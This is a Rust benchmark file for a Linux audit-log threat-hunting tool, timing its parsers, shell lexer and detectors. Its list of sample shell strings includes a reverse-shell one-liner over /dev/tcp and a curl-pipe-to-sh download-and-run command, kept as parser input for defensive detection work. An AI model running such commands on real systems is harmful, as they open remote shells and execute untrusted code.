//! Criterion benches of each Linux-side parser and detector, on the repository's own
//! real audit logs (`examples/linux`, recorded from a real kernel):
//!
//! * `auditd/parse_record`: the record header + field split of every line;
//! * `auditd/record_header`: the header alone (type, host, stamp), with the type
//!   filter the parser uses: what every line of a log costs before its fate is known;
//! * `auditd/hex_decode`: decoding the hex-encoded arguments and proctitles;
//! * `auditd/assemble`: [`AuditParser`], lines to normalized events;
//! * `shell/parse`, `command/unwrap`: the shell lexer and wrapper peeling;
//! * `detect/nohup`, `detect/signal_mask`: the detectors over the parsed events;
//! * `syslog/parse`: the syslog source over a real syslog sample (shared corpus);
//! * `pipeline/examples_linux`: the whole hunt over `examples/linux`.
//!
//! `cargo bench --bench parsers`. Throughput is in input bytes where there are any.

use std::hint::black_box;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use sighunt_core::command::{self, CommandRules};
use sighunt_core::detectors::nohup::NohupDetector;
use sighunt_core::detectors::signal_mask::SignalMaskDetector;
use sighunt_core::detectors::{Detector, Findings};
use sighunt_core::engine::hunt::{self, HuntOptions};
use sighunt_core::event::Event;
use sighunt_core::input::InputError;
use sighunt_core::rules::Rules;
use sighunt_core::shell;
use sighunt_core::sources::auditd::{self, AuditParser};
use sighunt_core::sources::syslog::SyslogParser;
use sighunt_core::sources::{EventSink, LineParser};

fn repo(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

/// Both example logs (raw and enriched), concatenated.
fn audit_text() -> Vec<u8> {
    let mut text = std::fs::read(repo("examples/linux/audit-raw.log")).unwrap();
    text.extend(std::fs::read(repo("examples/linux/audit-enriched.log")).unwrap());
    text
}

use sighunt_core::sources::CollectingSink as Collect;

/// Counts without keeping: what the hot path costs without the collector.
#[derive(Default)]
struct Count(usize);

impl EventSink for Count {
    fn event(&mut self, event: Event) {
        self.0 += 1;
        black_box(event);
    }
    fn error(&mut self, _: InputError) {}
}

fn feed(parser: &mut dyn LineParser, text: &[u8], sink: &mut dyn EventSink) {
    for (i, line) in text.split(|&b| b == b'\n').enumerate() {
        parser.line(line, i as u64 + 1, sink);
    }
    parser.finish(sink);
}

fn audit_events(text: &[u8]) -> Vec<Event> {
    let mut sink = Collect::default();
    feed(&mut AuditParser::new(Arc::from("bench")), text, &mut sink);
    sink.events
}

fn bench_auditd(c: &mut Criterion) {
    let text = audit_text();
    let mut g = c.benchmark_group("auditd");
    g.throughput(Throughput::Bytes(text.len() as u64));
    g.bench_function("parse_record", |b| {
        b.iter(|| {
            let mut fields = 0usize;
            for line in text.split(|&b| b == b'\n') {
                if let Some(rec) = auditd::parse_record(line) {
                    fields += auditd::fields(rec.body).count();
                }
            }
            fields
        })
    });
    g.bench_function("record_header", |b| {
        b.iter(|| {
            let mut kept = 0usize;
            for line in text.split(|&b| b == b'\n') {
                let wanted = |k: &[u8]| matches!(k, b"SYSCALL" | b"EXECVE" | b"PROCTITLE");
                kept += usize::from(auditd::parse_header_if(line, wanted).is_ok());
            }
            kept
        })
    });
    g.bench_function("assemble", |b| {
        b.iter(|| {
            let mut sink = Count::default();
            feed(&mut AuditParser::new(Arc::from("bench")), &text, &mut sink);
            sink.0
        })
    });
    g.finish();
}

/// Decoding every bare hex value of the example logs (arguments, proctitles).
fn bench_auditd_hex(c: &mut Criterion) {
    let text = audit_text();
    // Every bare hex value of the logs (arguments, proctitles, sockaddrs).
    let hex: Vec<&[u8]> = text
        .split(|&b| b == b'\n')
        .filter_map(auditd::parse_record)
        .flat_map(|r| auditd::fields(r.body).map(|(_, v)| v))
        .filter_map(|v| match v {
            auditd::Value::Bare(b) if b.len() >= 8 && auditd::decode_hex(b).is_some() => Some(b),
            _ => None,
        })
        .collect();
    assert!(hex.len() > 10, "the example logs have hex arguments");
    let mut hg = c.benchmark_group("auditd_hex");
    hg.throughput(Throughput::Bytes(hex.iter().map(|h| h.len() as u64).sum()));
    hg.bench_function("hex_decode", |b| {
        b.iter(|| {
            hex.iter()
                .map(|h| auditd::decode_hex(black_box(h)).map_or(0, |d| d.len()))
                .sum::<usize>()
        })
    });
    hg.finish();
}

/// Shell strings of the kinds met in `sh -c` arguments and history.
const SHELL: &[&str] = &[
    "nohup /tmp/sighunt-e2e.40OurG/x4.sh >/dev/null 2>&1 &",
    "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    "trap '' HUP INT TERM; sleep 1",
    "cd /tmp && (curl -fsSL http://10.0.0.5/a.sh | sh) & echo $(id -u) `whoami` ${HOME:-/}",
    "for i in 1 2 3; do nohup ./worker$i --conf \"/etc/w $i.conf\" > /var/log/w$i.log 2>&1 & done; wait",
    "if [ -x /usr/bin/python3 ]; then python3 -c 'import signal; signal.signal(signal.SIGHUP, signal.SIG_IGN)'; fi",
    "X=1 Y='a b' sudo -u www env Z=2 setsid nohup /opt/app/bin/run --port 8080 </dev/null &>/dev/null &",
    "cat <<EOF > /tmp/x\nnohup ./a &\nEOF\nchmod +x /tmp/x && /tmp/x",
];

fn bench_shell(c: &mut Criterion) {
    let bytes: usize = SHELL.iter().map(|s| s.len()).sum();
    let mut g = c.benchmark_group("shell");
    g.throughput(Throughput::Bytes(bytes as u64));
    g.bench_function("parse", |b| {
        b.iter(|| {
            SHELL
                .iter()
                .map(|s| shell::parse(black_box(s)).len())
                .sum::<usize>()
        })
    });
    g.bench_function("split_words", |b| {
        b.iter(|| {
            SHELL
                .iter()
                .map(|s| shell::split_words(black_box(s)).len())
                .sum::<usize>()
        })
    });
    g.finish();
}

fn bench_command(c: &mut Criterion) {
    let rules = Rules::embedded();
    let commands: CommandRules = rules.section("commands").unwrap();
    // Every argv of the example logs: mostly benign, some wrapped, some `sh -c`.
    let argvs: Vec<Vec<String>> = audit_events(&audit_text())
        .into_iter()
        .filter_map(|e| match e {
            Event::Process(p) => Some(p.argv),
            _ => None,
        })
        .collect();
    let mut g = c.benchmark_group("command");
    g.throughput(Throughput::Elements(argvs.len() as u64));
    g.bench_function("unwrap_argv", |b| {
        b.iter(|| {
            argvs
                .iter()
                .map(|a| command::from_argv(black_box(a), &commands).len())
                .sum::<usize>()
        })
    });
    g.bench_function("from_shell_text", |b| {
        b.iter(|| {
            SHELL
                .iter()
                .map(|s| command::from_shell_text(black_box(s), &commands).len())
                .sum::<usize>()
        })
    });
    g.finish();
}

fn bench_detectors(c: &mut Criterion) {
    let rules = Rules::embedded();
    let events = audit_events(&audit_text());
    let mut g = c.benchmark_group("detect");
    g.throughput(Throughput::Elements(events.len() as u64));
    let run = |d: &mut dyn Detector| {
        let mut findings = Findings::default();
        for e in &events {
            d.observe(e, &mut findings);
        }
        d.finish(&mut findings);
        findings.len()
    };
    g.bench_function("nohup", |b| {
        b.iter(|| run(&mut NohupDetector::new(&rules).unwrap()))
    });
    g.bench_function("signal_mask", |b| {
        b.iter(|| run(&mut SignalMaskDetector::new(&rules).unwrap()))
    });
    g.finish();
}

fn bench_syslog(c: &mut Criterion) {
    let path = repo("../shared/corpus/syslog/logpai_loghub_Linux_2k.log");
    let Ok(text) = std::fs::read(&path) else {
        eprintln!("syslog/parse skipped: {} is absent", path.display());
        return;
    };
    let mut g = c.benchmark_group("syslog");
    g.throughput(Throughput::Bytes(text.len() as u64));
    g.bench_function("parse", |b| {
        b.iter(|| {
            let mut sink = Count::default();
            feed(&mut SyslogParser::new(Arc::from("bench")), &text, &mut sink);
            sink.0
        })
    });
    g.finish();
}

fn bench_pipeline(c: &mut Criterion) {
    let rules = Rules::embedded();
    let dir = repo("examples/linux");
    let bytes = audit_text().len();
    let mut g = c.benchmark_group("pipeline");
    g.throughput(Throughput::Bytes(bytes as u64));
    g.sample_size(30);
    g.bench_function("examples_linux", |b| {
        b.iter(|| {
            let report = hunt::hunt(
                std::slice::from_ref(&dir),
                &HuntOptions::default(),
                &rules,
                &|_| {},
            )
            .unwrap();
            report.findings.len()
        })
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_auditd,
    bench_auditd_hex,
    bench_shell,
    bench_command,
    bench_detectors,
    bench_syslog,
    bench_pipeline
);
criterion_main!(benches);
